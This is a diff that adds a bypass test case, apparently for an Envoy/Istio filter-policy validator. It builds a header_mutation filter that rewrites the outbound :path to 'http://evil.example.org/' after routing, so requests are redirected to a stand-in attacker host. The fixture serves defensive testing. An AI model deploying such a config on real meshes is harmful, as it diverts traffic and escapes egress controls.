@@ -206,6 +206,33 @@ BYPASSES: list[tuple[str, dict[str, Any], list[str]]] = [
         ),
         ["typed_config.mutations.request_mutations[0].append.header.key"],
     ),
+    # Door: HeaderMutations (source/common/http/header_mutation.cc) sets :path like any
+    # header, after the route is chosen; an absolute-form path reaches the next Envoy,
+    # which takes the Host from it (RFC 7230 5.7, ServerConnectionImpl::handlePath).
+    (
+        "outbound :path set to an absolute URL after routing",
+        envoy_filter(
+            patch(
+                "HTTP_FILTER",
+                filter_value(
+                    "envoy.filters.http.header_mutation",
+                    "envoy.extensions.filters.http.header_mutation.v3.HeaderMutation",
+                    mutations={
+                        "request_mutations": [
+                            {
+                                "append": {
+                                    "header": {"key": ":path", "value": "http://evil.example.org/"}
+                                }
+                            }
+                        ]
+                    },
+                ),
+                context="SIDECAR_OUTBOUND",
+                listener=HCM,
+            )
+        ),
+        ["typed_config.mutations.request_mutations[0].append.header.key"],
+    ),
     (
         "DNS resolvers of its own (queries leave the pod directly)",
         inbound(
